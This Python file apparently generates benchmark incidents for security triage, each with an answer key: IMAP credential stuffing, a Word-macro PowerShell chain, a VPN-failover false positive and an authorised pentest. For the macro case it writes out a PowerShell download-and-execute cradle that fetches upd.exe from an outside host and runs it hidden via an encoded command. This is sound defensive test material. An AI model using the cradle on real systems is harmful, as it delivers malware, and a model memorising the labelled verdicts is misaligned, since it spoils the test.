from common3 import *


def inc313():
    n = 313
    label(n, verdict="escalate", acceptable=["remediate"], compromised=["lucia.ferrari@contoso.com"],
          actions=[A("reset-credentials", "lucia.ferrari@contoso.com"), A("revoke-sessions", "lucia.ferrari@contoso.com"), A("block-ip", "203.0.113.118")],
          forbidden=[A("block-ip", "198.51.100.45")],
          tactics=["TA0001", "TA0009"],
          source="Credential stuffing against legacy IMAP followed by mailbox download (Microsoft guidance on blocking legacy authentication; CISA AA20-120A-style credential reuse)",
          why="A password-only IMAP sign-in from a hosting address succeeded and pulled the whole mailbox while Lucia was working from the office; 198.51.100.45 in the same alert is Contoso's own egress.")
    lf = user("lucia.ferrari", "Lucia Ferrari", 1400)
    egress = own("198.51.100.45", city="Milan", state="Lombardy", cc="IT", country="Italy", lat=45.4642, lon=9.19)
    atk = vps("203.0.113.118", "US", "United States", "Arizona", "Phoenix", 33.4484, -112.074, 64620, "stackrack hosting",
              [{"providerName": "Microsoft Threat Intelligence", "threatType": "Botnet", "threatName": "Credential stuffing", "threatDescription": "Credential stuffing source", "confidence": 70, "reportLink": ""}])
    q = ("SigninLogs\n| where ClientAppUsed in (\"IMAP4\",\"POP3\",\"Authenticated SMTP\") and ResultType == 0\n"
         "| summarize IPs=make_set(IPAddress) , Apps=make_set(ClientAppUsed) by UserPrincipalName, bin(TimeGenerated, 1h)")
    a1 = rule(n, "legacy", "Successful legacy authentication sign-in from two locations", "High", at(13, "08:55"), at(13, "09:40"),
              ["InitialAccess"], ["T1078.004"],
              "lucia.ferrari@contoso.com: interactive browser sign-ins with MFA from 198.51.100.45 (Milan) and a single-factor IMAP4 sign-in "
              "from 203.0.113.118 (Phoenix) within the same hour. The IMAP client was 'python-imaplib'.", q, results=2,
              details={"IPs": ["198.51.100.45", "203.0.113.118"]})
    a2 = mdca(n, "dl", "Mass download by a single user", "Medium", at(13, "09:12"), at(13, "09:40"), ["Collection"], ["T1114.002"],
              "Lucia Ferrari downloaded 14,982 mail items over IMAP from 203.0.113.118 in 28 minutes, far above her baseline.",
              upn="lucia.ferrari@contoso.com")
    created = at(13, "10:00")
    build(n, "imap-credential-stuffing-mailbox-download", "Legacy IMAP sign-in from hosting IP and mailbox download",
          "Single-factor IMAP access from a hosting address alongside the user's office sign-ins.",
          "High", "New", created, [a1, a2], [lf, egress, atk, cloud_app("Microsoft Exchange Online", 20893)],
          comments=[(AISHA, at(13, "10:14"), "198.51.100.45 is the Milan office egress. Lucia is at her desk and uses only Outlook; she "
                     "reused her password on a forum breached last month.")])


def inc314():
    n = 314
    cradle = "$w=New-Object System.Net.WebClient;$w.DownloadFile('http://203.0.113.184/s2/upd.exe',\"$env:TEMP\\upd.exe\");Start-Process \"$env:TEMP\\upd.exe\""
    b64 = enc_ps(cradle)
    label(n, verdict="escalate", acceptable=["remediate"], compromised=["WS-LGL-007"],
          actions=[A("isolate-host", "WS-LGL-007"), A("block-ip", "203.0.113.184"),
                   A("block-file", "3d6f9a2c5e8b1d4f7a0c3e6b9d2f5a8c1e4b7d0a3f6c9e2b5d8a1f4c7e0b3d6a")],
          forbidden=[A("block-ip", "10.50.1.7"), A("block-file", "a3c2f1ad8e63c9b3f1c8b5c0d2e4f6a8b0c2d4e6f8a0b2c4d6e8f0a2b4c6d8e0")],
          tactics=["TA0001", "TA0002", "TA0011"],
          source="Macro document → encoded PowerShell downloader → second stage (e.g. Emotet/Qakbot-era chains documented by The DFIR Report and Microsoft)",
          why="WINWORD spawned hidden encoded PowerShell that downloaded and started upd.exe, which now beacons out: the workstation runs a second-stage implant.")
    ws = host("WS-LGL-007", os_version="10.0.19045")
    u = user("samir.aziz", "Samir Aziz", 1410)
    lip = ip("10.50.1.7")
    c2 = vps("203.0.113.184", "UA", "Ukraine", "Kyiv", "Kyiv", 50.45, 30.52, 64630, "dnipro hosting")
    h2 = filehash("3d6f9a2c5e8b1d4f7a0c3e6b9d2f5a8c1e4b7d0a3f6c9e2b5d8a1f4c7e0b3d6a")
    hps = filehash("a3c2f1ad8e63c9b3f1c8b5c0d2e4f6a8b0c2d4e6f8a0b2c4d6e8f0a2b4c6d8e0")
    f_w = file("C:\\Program Files\\Microsoft Office\\root\\Office16", "WINWORD.EXE", h=ws)
    f_ps = file("C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "powershell.exe", [hps], h=ws)
    f_doc = file("C:\\Users\\samir.aziz\\Downloads", "Settlement_Draft_v3.docm", h=ws)
    f_upd = file("C:\\Users\\samir.aziz\\AppData\\Local\\Temp", "upd.exe", [h2], h=ws)
    p_w = process(n, 2208, "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\samir.aziz\\Downloads\\Settlement_Draft_v3.docm\"", fmt(at(12, "09:14")), f_w, None, u, ws)
    p_ps = process(n, 5104, f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {b64}", fmt(at(12, "09:14", 22)), f_ps, p_w, u, ws)
    p_u = process(n, 6630, "C:\\Users\\samir.aziz\\AppData\\Local\\Temp\\upd.exe", fmt(at(12, "09:14", 51)), f_upd, p_ps, u, ws)
    a1 = mde(n, "macro", "Suspicious process launched by Office application", "High", at(12, "09:14", 22), at(12, "09:14", 51), ["Execution", "InitialAccess"],
             ["T1204.002", "T1059.001", "T1566.001"], "WINWORD.EXE launched a hidden PowerShell with an encoded command after opening "
             "Settlement_Draft_v3.docm. The command downloaded and executed upd.exe.", "WS-LGL-007")
    a2 = mde(n, "c2", "Suspicious connection to a remote host", "Medium", at(12, "09:15"), at(12, "10:02"), ["CommandAndControl"], ["T1071.001", "T1105"],
             "upd.exe (unsigned, first seen in the organization today) made 94 periodic HTTPS connections to 203.0.113.184 from 10.50.1.7.", "WS-LGL-007")
    created = at(12, "10:15")
    build(n, "word-macro-encoded-powershell", "Encoded PowerShell from Word macro downloaded second stage on WS-LGL-007",
          "Macro-enabled document spawning encoded PowerShell downloader; second stage beaconing.",
          "High", "New", created, [a1, a2], [ws, u, lip, c2, h2, hps, f_w, f_ps, f_doc, f_upd, p_w, p_ps, p_u],
          provider="Microsoft 365 Defender", provider_incident="40433")


def inc315():
    n = 315
    label(n, verdict="dismiss", acceptable=[], compromised=[], actions=[],
          forbidden=[A("block-ip", "198.51.100.14"), A("block-ip", "192.0.2.196"), A("reset-credentials", "tariq.hussein@contoso.com"),
                     A("disable-account", "tariq.hussein@contoso.com")],
          tactics=["TA0001"],
          source="Microsoft Defender for Cloud Apps / Entra ID Protection atypical-travel false positives from corporate VPN and proxy egress",
          why="Both addresses are Contoso's own egress (the Seattle VPN concentrator and the Zscaler node it failed over to); NetOps confirmed the fail-over at that minute.")
    th = user("tariq.hussein", "Tariq Hussein", 1420)
    vpn = own("198.51.100.14")
    zs = ip("192.0.2.196", geo("DE", "Germany", "Hesse", "Frankfurt am Main", 50.1109, 8.6821, 62044, "zscaler inc.", "Zscaler, Inc."))
    a1 = ipc(n, "travel", "impossibleTravel", at(5, "14:01", 40), at(5, "14:04", 2), "tariq.hussein@contoso.com", "192.0.2.196",
             "Frankfurt am Main, Hesse, DE", timing="Offline", risk="medium",
             more={"Previous IP": "198.51.100.14", "Previous location": "Seattle, Washington, US"})
    a2 = mdca(n, "travel2", "Impossible travel activity", "Medium", at(5, "14:01", 40), at(5, "14:04", 2), ["InitialAccess"], ["T1078"],
              "The user Tariq Hussein performed activity from Seattle, US (198.51.100.14) and from Frankfurt am Main, DE (192.0.2.196) within 3 minutes. "
              "Same device ID, same browser, compliant device.", upn="tariq.hussein@contoso.com")
    created = at(5, "14:30")
    build(n, "vpn-failover-impossible-travel", "Atypical travel: Seattle and Frankfurt within 3 minutes",
          "Impossible-travel detections for one user from two addresses minutes apart.",
          "Medium", "Active", created, [a1, a2], [th, vpn, zs, cloud_app("Office 365", 11161)], owner=KENJI,
          comments=[(KENJI, at(5, "15:10"), "NetOps (ticket NET-5521): the Seattle GlobalProtect gateway 198.51.100.14 went down at 14:01 and "
                     "clients failed over to the Zscaler ZIA Frankfurt node (192.0.2.196) until 14:40. Tariq's device id and session are the same throughout.")])


def inc316():
    n = 316
    label(n, verdict="dismiss", acceptable=[], compromised=[], actions=[],
          forbidden=[A("isolate-host", "SRV-WEB-DMZ-03"), A("disable-account", "rt-ext02@contoso.com")],
          tactics=["TA0001", "TA0002"],
          source="Authorised penetration test within its scope (rules of engagement; Microsoft Defender guidance on suppressing alerts for approved testing)",
          why="The activity comes from the tester's declared source address against the host named in-scope in the engagement letter, within the test window.")
    web = host("SRV-WEB-DMZ-03", os_version="10.0.20348", joined=False, dns="dmz.contoso.com")
    rt = user("rt-ext02", "Red team external 02", 1430)
    src = ip("203.0.113.201", geo("GB", "United Kingdom", "England", "London", 51.5072, -0.1276, 64640, "fabrikam security ltd", "Fabrikam Security Ltd"))
    a1 = mde(n, "sqlmap", "Suspicious web server process execution", "Medium", at(10, "10:20"), at(10, "10:41"), ["Execution", "InitialAccess"],
             ["T1190", "T1059.003"], "w3wp.exe on SRV-WEB-DMZ-03 spawned cmd.exe with 'whoami' and 'hostname' after SQL-injection-like requests "
             "from 203.0.113.201 (user agent sqlmap/1.8).", "SRV-WEB-DMZ-03")
    a2 = mde(n, "tool", "An active 'Impacket' hacktool was detected", "Medium", at(10, "11:02"), at(10, "11:02"), ["Execution"], ["T1047"],
             "Impacket wmiexec-style execution was detected on SRV-WEB-DMZ-03 using the account rt-ext02.", "SRV-WEB-DMZ-03")
    created = at(10, "11:20")
    build(n, "pentest-in-scope-dmz", "Web exploitation and Impacket on SRV-WEB-DMZ-03",
          "Exploitation of a DMZ web server followed by hacktool execution.",
          "Medium", "Active", created, [a1, a2], [web, rt, src], owner=AISHA, labels=[("Pentest-Q1", "User")],
          comments=[(AISHA, at(10, "11:34"), "Engagement letter ENG-2026-007 (Fabrikam Security, 5-16 Jan): in scope is SRV-WEB-DMZ-03 and the DMZ "
                     "segment only; tester source 203.0.113.201; account rt-ext02 issued for the test. Tester lead confirmed by phone these are their "
                     "SQLi and wmiexec steps. Nothing beyond the DMZ touched.")])
